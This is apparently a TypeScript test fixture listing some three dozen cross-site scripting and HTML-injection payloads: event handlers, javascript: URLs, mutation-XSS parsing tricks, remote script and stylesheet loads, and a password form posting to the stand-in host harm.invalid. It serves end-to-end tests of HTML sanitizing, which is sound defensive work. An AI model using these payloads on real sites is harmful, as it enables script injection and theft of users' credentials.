/**
 * Notes of feeds that mean harm, one trick each. Whatever runs sets `window.gvHarm`; whatever is fetched goes to harm.invalid.
 * The end-to-end tests show them all, and look that nothing did.
 */
const RUN = "window.gvHarm='ran'"

export const hostileNotes: readonly string[] = [
  `<script>${RUN}</script>words`,
  `<script src="https://harm.invalid/x.js"></script>words`,
  `<img src=x onerror="${RUN}">words`,
  `<img src="https://harm.invalid/pixel.gif" width="1" height="1">words`,
  `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>words`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></table></mtext></math>words`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">words`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">words`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">words`,
  `<template><img src=x onerror="${RUN}"></template>words`,
  `<a href="javascript:${RUN}">words</a>`,
  `<a href="java&#10;script:${RUN}">words</a>`,
  `<a href="data:text/html,<script>${RUN}</script>" target="_top">words</a>`,
  `<a href="vbscript:x" onclick="${RUN}" target="_self" ping="https://harm.invalid/">words</a>`,
  `<a href="https://ok.example/" target="_top" onmouseover="${RUN}" rel="opener">words</a>`,
  `<base href="https://harm.invalid/"><a href="/x">words</a>`,
  `<meta http-equiv="refresh" content="0;url=https://harm.invalid/">words`,
  `<link rel="stylesheet" href="https://harm.invalid/x.css">words`,
  `<style>* { display: none } @import "https://harm.invalid/y.css";</style>words`,
  `<p style="position:fixed;inset:0;background:url(https://harm.invalid/z)">words</p>`,
  `<iframe src="https://harm.invalid/" srcdoc="<script>parent.${RUN}</script>"></iframe>words`,
  `<object data="https://harm.invalid/"><embed src="https://harm.invalid/"></object>words`,
  `<form action="https://harm.invalid/"><input name="password" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">words</button></form>`,
  `<details open ontoggle="${RUN}"><summary>words</summary></details>`,
  `<video src="https://harm.invalid/v.mp4" autoplay onloadstart="${RUN}"></video><audio controls src="https://harm.invalid/a.mp3"></audio>words`,
  `<img src="https://harm.invalid/a.png" srcset="https://harm.invalid/b.png 2x" style="position:fixed" loading="eager">words`,
  `<button data-seconds="13">words</button>`,
  `<gv-notes html="<img src=x onerror=${RUN}>"></gv-notes><x-y is="script">words</x-y>`,
  `<div id="app" name="services" class="welcome" slot="app">words</div>`,
  `<a id=x name=y href="https://ok.example/#&quot; onclick=&quot;${RUN}">words</a>`,
  `<p>${'<b><i><div>'.repeat(2000)}words`,
  '&lt;script&gt;not run&lt;/script&gt; words',
  '<!--><img src=x onerror=window.gvHarm=1>-->words',
  `<![CDATA[<img src=x onerror=${RUN}>]]>words`,
  `<plaintext>words <img src=x onerror=${RUN}>`,
  `<textarea><img src=x onerror="${RUN}"></textarea>words`,
]
